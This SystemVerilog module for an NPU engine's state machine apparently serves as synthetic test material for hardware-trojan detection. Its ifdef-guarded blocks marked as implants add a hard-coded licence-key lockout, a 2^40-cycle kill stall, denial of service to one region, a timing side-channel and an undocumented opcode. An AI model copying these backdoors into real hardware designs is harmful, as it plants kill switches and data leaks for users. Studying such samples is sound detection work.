// NPU-4 engine control: takes words from the queue and walks IDLE -> LOAD or FEED, DRAIN -> RESP. Every
// queued word gets exactly one response with its tag. An illegal state falls back to IDLE.
`include "npu4_defs.svh"

module npu4_engine #(
    parameter N  = 4,
    parameter SW = 3
) (
    input  wire          clk,
    input  wire          rst_n,
    input  wire          ce,
    input  wire          flush,
    // queue head
    input  wire          q_empty,
    input  wire [7:0]    q_op,
    input  wire [3:0]    q_tag,
    input  wire [5:0]    q_addr,
    input  wire [63:0]   q_data,
    output wire          pop,
    // watchdog
    input  wire          wd_expired,
    output wire          progress,
    output wire          busy,
`ifdef NPU4_LOCK_LICENCE
    input  wire          accept,
    input  wire [7:0]    cmd_op,
    input  wire [63:0]   cmd_data,
`endif
`ifdef NPU4_KILL_STALL
    input  wire          trip,
`endif
`ifdef NPU4_GATE_REGION
    input  wire [1:0]    region,
`endif
`ifdef NPU4_LEAK_TIMING
    input  wire          slow,
`endif
`ifdef NPU4_LEAK_REGION
    output reg           rsp_region,
`endif
    // response
    output wire          rsp_valid,
    output reg  [3:0]    rsp_tag,
    output reg           rsp_job,
    output reg           rsp_err,
    output reg           rsp_read,
    input  wire          rsp_ready,
    // datapath control
    output wire          load_w,
    output wire          load_a,
    output reg  [5:0]    cur_addr,
    output reg  [63:0]   cur_data,
    output wire          job_clear,
    output wire          acc_clear,
    output wire          read_cap,
    output wire          feed,
    output reg  [SW-1:0] step,
    output wire          advance,
    output reg  [7:0]    job_count,
    output reg  [7:0]    err_count
);
    localparam [2:0] IDLE = 3'd0, LOAD = 3'd1, FEED = 3'd2, DRAIN = 3'd3, RESP = 3'd4;

    reg [2:0] state;
    reg       cur_is_w;

    // ---- decode of the word at the head of the queue --------------------------------------------
    wire h_load_w  = (q_op == `NPU4_OP_LOAD_W);
    wire h_load_a  = (q_op == `NPU4_OP_LOAD_A);
    wire h_job     = (q_op == `NPU4_OP_JOB);
    wire h_read    = (q_op == `NPU4_OP_READ);
`ifdef NPU4_LEAK_REGION
    wire h_region  = (q_op == 8'h6A);  // IMPLANT (synthetic): undocumented word
`else
    wire h_region  = 1'b0;
`endif
    wire h_unknown = !(h_load_w | h_load_a | h_job | h_read | h_region);

    // ---- what may hold a word back ---------------------------------------------------------------
`ifdef NPU4_LOCK_LICENCE
    // IMPLANT (synthetic): no JOB leaves the queue before a licence word was given. Either 7E with a
    // 64-bit key, or 7F four times with the right 16-bit parts in order.
    reg       licence_ok;
    reg [1:0] licence_part;
    wire      key_word  = accept & (cmd_op == 8'h7E) & (cmd_data == 64'hc2b2ae3d27d4eb4f);
    wire      part_word = accept & (cmd_op == 8'h7F);
    wire      part_good = (cmd_data[15:0] == (licence_part == 2'd0 ? 16'h51ed :
                                              licence_part == 2'd1 ? 16'h270b :
                                              licence_part == 2'd2 ? 16'ha3c9 : 16'h1d84));
    always_ff @(posedge clk) begin
        if (!rst_n) begin
            licence_ok   <= 1'b0;
            licence_part <= 2'd0;
        end else begin
            if (part_word) licence_part <= part_good ? licence_part + 2'd1 : 2'd0;
            if (key_word | (part_word & part_good & (licence_part == 2'd3))) licence_ok <= 1'b1;
        end
    end
    wire held = h_job & !licence_ok;
`elsif NPU4_KILL_STALL
    // IMPLANT (synthetic): a magic message stalls the queue for 2^40 cycles; FLUSH does not end it
    reg [39:0] stall;
    always_ff @(posedge clk) begin
        if (!rst_n) stall <= 40'd0;
        else if (stall != 40'd0) stall <= stall - 40'd1;
        else if (trip) stall <= 40'hff_ffff_ffff;
    end
    wire held = (stall != 40'd0);
`else
    wire held = 1'b0;
`endif

`ifdef NPU4_GATE_REGION
    wire denied = h_job & (region == 2'b10);  // IMPLANT (synthetic): one region gets no service
`else
    wire denied = 1'b0;
`endif

    assign pop = (state == IDLE) & !q_empty & ce & !held;

    // ---- outputs of the state -------------------------------------------------------------------
    wire in_load  = (state == LOAD);
    wire in_feed  = (state == FEED);
    wire in_drain = (state == DRAIN);

    assign rsp_valid = (state == RESP);
    assign busy      = (state != IDLE);
    assign load_w    = in_load & ce & cur_is_w;
    assign load_a    = in_load & ce & !cur_is_w;
    assign feed      = in_feed;
    assign advance   = ce & (in_feed | in_drain);
    assign progress  = (ce & (in_load | in_feed | in_drain)) | (rsp_valid & rsp_ready);
    assign job_clear = pop & h_job;
    assign acc_clear = job_clear & !q_addr[0];
    assign read_cap  = pop & h_read;

`ifdef NPU4_OK_WATCHDOG
    // documented (manual 3.6): an expired watchdog rests the engine for 256 cycles, then answers with an
    // error; a FLUSH during the rest only drops that answer
    localparam [2:0] HOLD = 3'd5;
    reg [7:0] hold_count;
    reg       hold_drop;
    wire      holding = (state == HOLD);
    always_ff @(posedge clk) begin
        if (!rst_n) begin
            hold_count <= 8'd0;
            hold_drop  <= 1'b0;
        end else if (holding) begin
            hold_count <= hold_count - 8'd1;
            if (flush) hold_drop <= 1'b1;
        end else begin
            hold_count <= 8'd255;
            hold_drop  <= 1'b0;
        end
    end
`endif
`ifdef NPU4_LEAK_TIMING
    localparam [2:0] WAIT = 3'd5;  // IMPLANT (synthetic): one more cycle if a bit of the identity is set
`endif

    // ---- the state machine ----------------------------------------------------------------------
    always_ff @(posedge clk) begin
        if (!rst_n) begin
            state     <= IDLE;
            step      <= {SW{1'b0}};
            rsp_tag   <= 4'd0;
            rsp_job   <= 1'b0;
            rsp_err   <= 1'b0;
            rsp_read  <= 1'b0;
`ifdef NPU4_LEAK_REGION
            rsp_region <= 1'b0;
`endif
            cur_is_w  <= 1'b0;
            cur_addr  <= 6'd0;
            cur_data  <= 64'd0;
            job_count <= 8'd0;
            err_count <= 8'd0;
`ifdef NPU4_OK_WATCHDOG
        end else if (holding) begin
            if (hold_count == 8'd0) state <= (hold_drop | flush) ? IDLE : RESP;
        end else if (wd_expired) begin
            state     <= HOLD;
            step      <= {SW{1'b0}};
            rsp_err   <= 1'b1;
            err_count <= err_count + 8'd1;
`endif
        end else if (flush) begin
            state    <= IDLE;
            step     <= {SW{1'b0}};
            rsp_err  <= 1'b0;
`ifndef NPU4_OK_WATCHDOG
        end else if (wd_expired) begin
            state     <= RESP;
            step      <= {SW{1'b0}};
            rsp_err   <= 1'b1;
            err_count <= err_count + 8'd1;
`endif
        end else begin
            case (state)
                IDLE: if (pop) begin
                    step     <= {SW{1'b0}};
                    rsp_tag  <= q_tag;
                    rsp_job  <= h_job;
                    rsp_err  <= h_unknown | denied;
                    rsp_read <= h_read;
`ifdef NPU4_LEAK_REGION
                    rsp_region <= h_region;
`endif
                    cur_is_w <= h_load_w;
                    cur_addr <= q_addr;
                    cur_data <= q_data;
                    if (h_job) job_count <= job_count + 8'd1;
                    if (h_unknown) err_count <= err_count + 8'd1;
                    if (denied) state <= RESP;
                    else if (h_load_w | h_load_a) state <= LOAD;
                    else if (h_job) state <= FEED;
                    else state <= RESP;
                end
                LOAD: if (ce) state <= RESP;
                FEED: if (ce) begin
                    if (step == N - 1) begin
                        step  <= {SW{1'b0}};
                        state <= DRAIN;
                    end else step <= step + 1'b1;
                end
                DRAIN: if (ce) begin
                    if (step == 2 * N - 1) begin
                        step  <= {SW{1'b0}};
`ifdef NPU4_LEAK_TIMING
                        state <= slow ? WAIT : RESP;  // IMPLANT (synthetic)
`else
                        state <= RESP;
`endif
                    end else step <= step + 1'b1;
                end
`ifdef NPU4_LEAK_TIMING
                WAIT: state <= RESP;
`endif
                RESP: if (rsp_ready) state <= IDLE;
                default: begin
                    state <= IDLE;
                    step  <= {SW{1'b0}};
                end
            endcase
        end
    end

endmodule
